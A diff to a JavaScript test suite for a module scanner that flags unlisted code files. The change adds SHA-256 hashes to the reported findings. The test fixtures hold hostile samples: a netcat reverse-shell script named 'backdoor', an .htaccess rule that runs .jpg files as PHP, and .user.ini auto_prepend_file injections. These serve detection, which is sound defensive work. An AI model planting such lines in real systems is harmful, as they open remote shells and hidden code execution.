@@ -117,18 +117,18 @@ describe('walkModule', () => {
       result = walk('core', m, { listed: LISTED });
     });
 
-    it('reports the unlisted code, sorted by path, each with its reason', () => {
+    it('reports the unlisted code, sorted by path, each with its reason and SHA-256', () => {
       assert.deepEqual(result.code, [
-        { path: 'assets/less/cache/x.php', reason: REASON.php },
-        { path: 'bin/backdoor', reason: REASON.shebang },
-        { path: 'bin/helper', reason: REASON.shebang },
-        { path: 'bin/tool', reason: REASON.elf },
-        { path: 'images/photo.php.jpg', reason: REASON.phpInner },
-        { path: 'node_modules/evil/x.php', reason: REASON.php },
-        { path: 'node_modules/pkg/.user.ini', reason: REASON.userIni },
-        { path: 'shell.php', reason: REASON.php },
-        { path: 'views/.htaccess', reason: REASON.htaccess },
-        { path: 'views/.user.ini', reason: REASON.userIni },
+        { path: 'assets/less/cache/x.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'bin/backdoor', reason: REASON.shebang, sha256: sha256('#!/bin/sh\nnc -e /bin/sh host 4444\n') },
+        { path: 'bin/helper', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
+        { path: 'bin/tool', reason: REASON.elf, sha256: sha256(ELF) },
+        { path: 'images/photo.php.jpg', reason: REASON.phpInner, sha256: sha256(SHELL) },
+        { path: 'node_modules/evil/x.php', reason: REASON.php, sha256: sha256('<?php') },
+        { path: 'node_modules/pkg/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
+        { path: 'shell.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'views/.htaccess', reason: REASON.htaccess, sha256: sha256('AddType application/x-httpd-php .jpg') },
+        { path: 'views/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
       ]);
     });
 
@@ -319,7 +319,7 @@ describe('walkModule', () => {
       assert.ok(result.otherSample.includes('entry.php'), 'another name for a listed file');
       assert.deepEqual(
         result.code.find((f) => f.path === 'runme'),
-        { path: 'runme', reason: REASON.shebang },
+        { path: 'runme', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
       );
       assert.ok(paths(result.code).includes('run.php'), "a PHP name for another module's text file");
     });
@@ -374,7 +374,7 @@ describe('walkModule', () => {
       assert.deepEqual(result.notWalked, [
         { path: 'escape', reason: 'symbolic link that cannot be followed: a symbolic link leads above the root' },
       ]);
-      assert.deepEqual(result.code, [{ path: 'abs/shell.php', reason: REASON.php }]);
+      assert.deepEqual(result.code, [{ path: 'abs/shell.php', reason: REASON.php, sha256: sha256(SHELL) }]);
       assert.deepEqual(result.links, [{ path: 'abs', target: join(root, 'srv/uploads'), outcome: 'walked' }]);
     });
   });
@@ -412,6 +412,19 @@ describe('walkModule', () => {
     it('keeps at most the bound of findings in a list', async () => {
       for (let i = 0; i < 3; i++) await put(`capped/m/s${i}.php`, SHELL);
       assert.equal(walk('m', 'capped/m', { limits: { listed: 2 } }).code.length, 2);
+    });
+
+    it('gives unlisted code its SHA-256 only within its byte budget, and never for a file over 1 MiB', async () => {
+      await put('hashed/m/a.php', SHELL);
+      await put('hashed/m/big.php', Buffer.alloc(1024 * 1024 + 1, 0x20));
+      assert.deepEqual(walk('m', 'hashed/m', { limits: { codeHashBytes: 0 } }).code, [
+        { path: 'a.php', reason: REASON.php },
+        { path: 'big.php', reason: REASON.php },
+      ]);
+      assert.deepEqual(walk('m', 'hashed/m').code, [
+        { path: 'a.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'big.php', reason: REASON.php },
+      ]);
     });
 
     it('fails on a directory whose path is longer than PATH_MAX', async () => {
@@ -455,7 +468,12 @@ describe('walkModule', () => {
     it('reports a name that is not UTF-8 as pbxsig reads module.sig (a byte not UTF-8 is U+EF00 + byte), with the exact bytes in hex', () => {
       assert.deepEqual(
         result.code.find((f) => f.path === 'sh\uefff.php'),
-        { path: 'sh\uefff.php', reason: REASON.php, pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex') },
+        {
+          path: 'sh\uefff.php',
+          reason: REASON.php,
+          pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex'),
+          sha256: sha256(SHELL),
+        },
       );
     });
 
@@ -463,11 +481,17 @@ describe('walkModule', () => {
       assert.deepEqual(
         result.code.filter((f) => f.path.startsWith('d\ueffe/')),
         [
-          { path: 'd\ueffe/run', reason: REASON.shebang, pathHex: Buffer.from('d\xfe/run', 'latin1').toString('hex') },
+          {
+            path: 'd\ueffe/run',
+            reason: REASON.shebang,
+            pathHex: Buffer.from('d\xfe/run', 'latin1').toString('hex'),
+            sha256: sha256('#!/bin/sh\n'),
+          },
           {
             path: 'd\ueffe/shell.php',
             reason: REASON.php,
             pathHex: Buffer.from('d\xfe/shell.php', 'latin1').toString('hex'),
+            sha256: sha256(SHELL),
           },
         ],
       );
@@ -481,7 +505,7 @@ describe('walkModule', () => {
       for (const path of ['new\nline.php', 'esc\u001b[31m.php', 'real\uFFFD.php']) {
         assert.deepEqual(
           result.code.find((f) => f.path === path),
-          { path, reason: REASON.php },
+          { path, reason: REASON.php, sha256: sha256(SHELL) },
           JSON.stringify(path),
         );
       }
